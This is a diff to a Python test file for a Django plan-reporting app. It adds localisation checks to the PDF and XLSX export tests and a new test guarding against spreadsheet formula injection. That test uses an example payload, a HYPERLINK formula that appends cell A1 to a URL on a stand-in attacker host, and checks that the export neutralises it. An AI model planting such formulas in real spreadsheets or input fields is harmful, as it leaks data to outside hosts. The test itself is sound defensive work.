@@ -2,6 +2,7 @@ import datetime as dt
 import io
 
 import pytest
+from django.utils import translation
 from openpyxl import load_workbook
 from pypdf import PdfReader
 
@@ -26,12 +27,14 @@ def test_pdf_figures_equal_the_dashboard(board_user):
     text = _pdf_text(response.content)
     tree = sources.plan_tree(plan, AS_OF)
     assert "Board report" in text
-    assert report.pct(tree["progress"]) in text
-    nodes = [n for o in tree["objectives"] for n in [o, *o["action_lines"]]]
-    assert len(nodes) == 5
-    flat = " ".join(text.split())
-    for node in nodes:
-        assert f"{node['code']} {node['name']} {report.pct(node['progress'])}" in flat, node
+    with translation.override("en"):  # the report's language
+        assert report.pct(tree["progress"]) in text
+        nodes = [n for o in tree["objectives"] for n in [o, *o["action_lines"]]]
+        assert len(nodes) == 5
+        flat = " ".join(text.split())
+        for node in nodes:
+            assert f"{node['code']} {node['name']} {report.pct(node['progress'])}" in flat, node
+    assert "As of Jan. 31, 2021" in text  # dates in the report's language, not ISO
 
 
 def test_xlsx_cells_equal_the_dashboard(staff_user):
@@ -50,7 +53,13 @@ def test_xlsx_cells_equal_the_dashboard(staff_user):
                 if node["progress"] is not None
                 else row[3] is None
             )
-            assert row[5] == node["status"]
+            # labels, never codes (issue 14), and real numbers with a number format
+            with translation.override("ca"):
+                assert row[5] == str(report.STATUS_LABELS[node["status"]])
+            assert "_" not in row[5]
+    progress_cells = [c for c in wb.worksheets[1]["D"][1:] if c.value is not None]
+    assert progress_cells and all(c.number_format == "0.0%" for c in progress_cells)
+    assert wb.worksheets[1]["A1"].value == "Nivell"  # headings in the report's language
     indicators = {r[0]: r for r in wb.worksheets[2].iter_rows(min_row=2, values_only=True)}
     for ind in sources.plan_indicators(plan, AS_OF):
         assert indicators[ind["code"]][8] == pytest.approx(ind["current"])
@@ -177,3 +186,22 @@ def test_report_indicators_equal_strategys_indicator_detail():
         assert row["forecast"]["value_at_target_date"] == (
             pytest.approx(fc.value_at_target_date) if fc.value_at_target_date is not None else None
         )
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_board_xlsx_writes_a_hostile_name_as_text(staff_user):
+    plan = small_plan(name=HOSTILE)
+    response = api_client(staff_user).get(f"/reports/plans/{plan.slug}.xlsx?as_of={AS_OF}")
+    assert response.status_code == 200
+    wb = load_workbook(io.BytesIO(response.content))
+    texts = [
+        cell
+        for sheet in wb.worksheets
+        for row in sheet.iter_rows(values_only=True)
+        for cell in row
+        if isinstance(cell, str)
+    ]
+    assert "'" + HOSTILE in texts
+    assert not [t for t in texts if t[:1] in ("=", "+", "-", "@")]
